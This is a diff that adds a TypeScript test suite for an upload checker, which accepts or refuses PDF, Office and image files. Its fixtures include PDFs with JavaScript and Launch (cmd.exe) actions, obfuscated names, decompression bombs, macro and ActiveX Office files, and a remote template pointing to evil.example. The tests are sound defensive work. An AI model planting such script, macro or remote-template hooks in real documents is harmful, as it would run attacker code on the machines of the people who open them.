@@ -1,0 +1,254 @@
+import {
+  lockedDocx,
+  packedPdfObjects,
+  pptRecord,
+  sampleDoc,
+  sampleDocx,
+  sampleJpeg,
+  samplePdf,
+  samplePdfOfSize,
+  samplePng,
+  samplePpt,
+  sampleXls,
+  sampleZip,
+} from '../../../test/support/sample-files.js';
+import type { AppError } from '../../common/errors/app-error.js';
+import { type DocumentKind, FACTORY_DOCUMENT } from '../document-kind.js';
+import type { SpooledFile } from '../upload/spooled-file.js';
+import { checkDocument } from './check-document.js';
+
+const PICTURE: DocumentKind = { extensions: ['.pdf', '.jpg', '.jpeg', '.png'], maxBytes: 5 * 1024 * 1024 };
+const MB = 1024 * 1024;
+
+function fileOf(name: string, bytes: Buffer): SpooledFile {
+  return {
+    field: 'paper',
+    name,
+    size: bytes.length,
+    sha256: '',
+    dataKey: Buffer.alloc(32),
+    openEncrypted: () => {
+      throw new Error('not needed');
+    },
+    readInto: async (target) => void bytes.copy(target),
+  };
+}
+
+function check(name: string, bytes: Buffer, kind = FACTORY_DOCUMENT) {
+  return checkDocument(fileOf(name, bytes), kind);
+}
+
+async function refusal(
+  name: string,
+  bytes: Buffer,
+  kind = FACTORY_DOCUMENT,
+): Promise<{ status: number; sentence: string }> {
+  const error = await check(name, bytes, kind).then(
+    () => undefined,
+    (thrown: AppError) => thrown,
+  );
+  if (!error) throw new Error(`${name} was accepted`);
+  expect(error.fields).toEqual({ paper: [error.message] });
+  return { status: error.status, sentence: error.message };
+}
+
+/** The same compound file with the directory's chain leading back to its own start. */
+function withLoop(file: Buffer): Buffer {
+  const looped = Buffer.from(file);
+  const directory = looped.readUInt32LE(48);
+  const fat = (looped.readUInt32LE(76) + 1) * 512;
+  looped.writeUInt32LE(directory, fat + 4 * directory);
+  return looped;
+}
+
+describe('an accepted file', () => {
+  it.each([
+    ['plan.pdf', samplePdf(), 'pdf', 'application/pdf'],
+    ['PLAN.PDF', samplePdf(), 'pdf', 'application/pdf'],
+    ['large.pdf', samplePdfOfSize(2 * MB), 'pdf', 'application/pdf'],
+    [
+      'packed.pdf',
+      samplePdf({ objects: packedPdfObjects('6 0 << /Type /Font >>') }),
+      'pdf',
+      'application/pdf',
+    ],
+    [
+      'words.pdf',
+      samplePdf({ objects: '4 0 obj\n<< /Title (Why /JS and /Encrypt \\) matter) >>\nendobj' }),
+      'pdf',
+      'application/pdf',
+    ],
+    [
+      'noise.pdf',
+      samplePdf({ objects: '4 0 obj\n<< /Length 9 >>\nstream\n/JS /XFA \nendstream\nendobj' }),
+      'pdf',
+      'application/pdf',
+    ],
+    ['plan.doc', sampleDoc(), 'doc', 'application/msword'],
+    ['plan.ppt', samplePpt(), 'ppt', 'application/vnd.ms-powerpoint'],
+    [
+      'plan.docx',
+      sampleDocx(),
+      'docx',
+      'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
+    ],
+    [
+      'long.docx',
+      sampleDocx({ 'word/document.xml': Buffer.alloc(4 * MB, '<w:p/>') }),
+      'docx',
+      expect.any(String),
+    ],
+  ])('%s', async (name, bytes, type, contentType) => {
+    await expect(check(name, bytes)).resolves.toEqual({ type, contentType });
+  });
+
+  it.each([
+    ['paper.jpg', sampleJpeg(1200, 800), 'jpg'],
+    ['paper.jpeg', sampleJpeg(1200, 800), 'jpg'],
+    ['paper.png', samplePng(1200, 800), 'png'],
+  ])('%s where pictures are accepted', async (name, bytes, type) => {
+    await expect(check(name, bytes, PICTURE)).resolves.toMatchObject({ type });
+  });
+});
+
+describe('a file of another type is refused with 415', () => {
+  const rename = 'rename it to .docx';
+  it.each([
+    ['plan.exe', samplePdf(), 'PDF, DOC, PPT or DOCX'],
+    ['plan', samplePdf(), 'PDF, DOC, PPT or DOCX'],
+    ['plan.pdf.html', samplePdf(), 'PDF, DOC, PPT or DOCX'],
+    ['paper.png', samplePng(100, 100), 'PDF, DOC, PPT or DOCX'],
+    ['plan.pdf', Buffer.from('<html><script>alert(1)</script>'), 'something else'],
+    ['plan.pdf', sampleDocx(), 'something else'],
+    ['plan.docx', samplePdf(), 'something else'],
+    ['plan.doc', sampleDocx(), rename],
+    ['slides.ppt', sampleZip({ 'ppt/presentation.xml': 'x' }), 'save it as PDF'],
+    ['plan.doc', samplePpt(), 'is a .ppt file'],
+    ['plan.ppt', sampleDoc(), 'is a .doc file'],
+    ['plan.docx', sampleDoc(), 'is a .doc file'],
+    ['plan.doc', sampleXls(), 'something else'],
+    ['plan.docx', sampleZip({ 'readme.txt': 'hello' }), 'not a Word document'],
+    [
+      'sheet.docx',
+      sampleDocx({}, 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml'),
+      'not a Word document',
+    ],
+    ['both.pdf', Buffer.concat([samplePdf(), sampleZip({ 'a.class': 'x' })]), 'second file'],
+    ['both.docx', Buffer.concat([Buffer.from('PK\x03\x04 %PDF-1.4 '), sampleDocx()]), 'second file'],
+  ])('%s: %#', async (name, bytes, says) => {
+    await expect(refusal(name, bytes)).resolves.toEqual({
+      status: 415,
+      sentence: expect.stringContaining(says),
+    });
+  });
+});
+
+describe('a file that must be saved differently is refused with 400', () => {
+  const macroInfo = pptRecord(
+    0x0f,
+    0x03ff,
+    pptRecord(0x02, 0x0400, Buffer.from('010000000100000002000000', 'hex')),
+  );
+  const withRemoteTemplate = {
+    'word/_rels/settings.xml.rels':
+      '<Relationships><Relationship Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>',
+  };
+
+  const refused: [string, Buffer, string][] = [
+    ['empty.pdf', Buffer.alloc(0), 'empty'],
+    ['cut.pdf', samplePdf().subarray(0, 150), 'damaged'],
+    ['locked.pdf', samplePdf({ trailer: '/Encrypt 9 0 R' }), 'password'],
+    ['disguised-lock.pdf', samplePdf({ trailer: '/Enc#72ypt 9 0 R' }), 'password'],
+    [
+      'script.pdf',
+      samplePdf({ objects: '4 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj' }),
+      'scripts',
+    ],
+    ['disguised.pdf', samplePdf({ objects: '4 0 obj\n<< /S /J#61vaScript /JS (x) >>\nendobj' }), 'scripts'],
+    [
+      'packed-script.pdf',
+      samplePdf({ objects: packedPdfObjects('6 0 << /S /JavaScript /JS (x) >>') }),
+      'scripts',
+    ],
+    ['launch.pdf', samplePdf({ objects: '4 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj' }), 'scripts'],
+    [
+      'attached.pdf',
+      samplePdf({ objects: '4 0 obj\n<< /Type /EmbeddedFile >>\nstream\nx\nendstream\nendobj' }),
+      'attached',
+    ],
+    ['bomb.pdf', samplePdf({ objects: packedPdfObjects(Buffer.alloc(20 * MB)) }), 'large size'],
+    ['names.pdf', samplePdf({ objects: Buffer.alloc(2 * MB, '/a') }), 'large size'],
+    ['loop.doc', withLoop(sampleDoc()), 'damaged'],
+    ['locked.doc', sampleDoc({}, 0x0100), 'password'],
+    ['macro.doc', sampleDoc({ 'Macros/VBA/_VBA_PROJECT': Buffer.from('x') }), 'macros'],
+    ['packed.doc', sampleDoc({ 'ObjectPool/_1/\u0001Ole10Native': Buffer.from('x') }), 'packed inside'],
+    ['cut.doc', sampleDoc().subarray(0, 700), 'damaged'],
+    ['locked.ppt', samplePpt({ encrypted: true }), 'password'],
+    ['macro.ppt', samplePpt({ records: pptRecord(0x0f, 0x07d0, macroInfo) }), 'macros'],
+    ['locked.docx', lockedDocx(), 'password'],
+    ['locked-parts.docx', sampleZip({ 'word/document.xml': 'x' }, { encrypted: true }), 'password'],
+    ['macro.docx', sampleDocx({ 'word/vbaProject.bin': 'x' }), 'macros'],
+    ['renamed-docm.docx', sampleDocx({}, 'application/vnd.ms-word.document.macroEnabled.main+xml'), 'macros'],
+    ['controls.docx', sampleDocx({ 'word/activeX/activeX1.xml': 'x' }), 'active controls'],
+    ['template.docx', sampleDocx(withRemoteTemplate), 'template'],
+    ['bomb.docx', sampleDocx({ 'word/media/a.bmp': Buffer.alloc(60 * MB) }), 'large size'],
+    [
+      'many.docx',
+      sampleDocx(Object.fromEntries(Array.from({ length: 2001 }, (_, n) => [`word/${n}.xml`, 'x']))),
+      'large size',
+    ],
+    [
+      'liar.docx',
+      sampleZip({ '[Content_Types].xml': 'x'.repeat(MB), 'word/document.xml': 'y' }, { claimedSize: 10 }),
+      'damaged',
+    ],
+    ['cut.docx', sampleDocx().subarray(0, 300), 'damaged'],
+  ];
+
+  it.each(refused)('%s', async (name, bytes, says) => {
+    await expect(refusal(name, bytes)).resolves.toEqual({
+      status: 400,
+      sentence: expect.stringContaining(says),
+    });
+  });
+
+  it.each([
+    ['huge.png', samplePng(30_000, 30_000), '30000 × 30000'],
+    ['wide.png', samplePng(16_000, 16_000), 'too large'],
+    ['huge.jpg', sampleJpeg(30_000, 30_000), '30000 × 30000'],
+    ['dot.png', samplePng(1, 1), 'too small'],
+    ['cut.png', samplePng(800, 600).subarray(0, 40), 'damaged'],
+    ['cut.jpg', sampleJpeg(800, 600).subarray(0, 50), 'damaged'],
+    ['headless.jpg', Buffer.from('ffd8ffe00002ffd9', 'hex'), 'damaged'],
+  ])('%s where pictures are accepted', async (name, bytes, says) => {
+    await expect(refusal(name, bytes, PICTURE)).resolves.toEqual({
+      status: 400,
+      sentence: expect.stringContaining(says),
+    });
+  });
+});
+
+describe('damage anywhere', () => {
+  const originals: [string, Buffer][] = [
+    ['a.pdf', samplePdf({ objects: packedPdfObjects('6 0 << /Type /Font >>') })],
+    ['a.doc', sampleDoc()],
+    ['a.ppt', samplePpt()],
+    ['a.docx', sampleDocx()],
+  ];
+
+  it.each(originals)(
+    'never breaks the check of %s: it is accepted or refused with a sentence',
+    async (name, original) => {
+      // The first kilobytes hold the structure of all of these; every byte of it is changed once.
+      for (let at = 8; at < Math.min(original.length, 1536); at += 3) {
+        const changed = Buffer.from(original);
+        changed.writeUInt8(changed.readUInt8(at) ^ 0xff, at);
+        const outcome = await check(name, changed).then(
+          () => 200,
+          (error: AppError) => error.status,
+        );
+        expect([200, 400, 415]).toContain(outcome);
+      }
+    },
+  );
+});
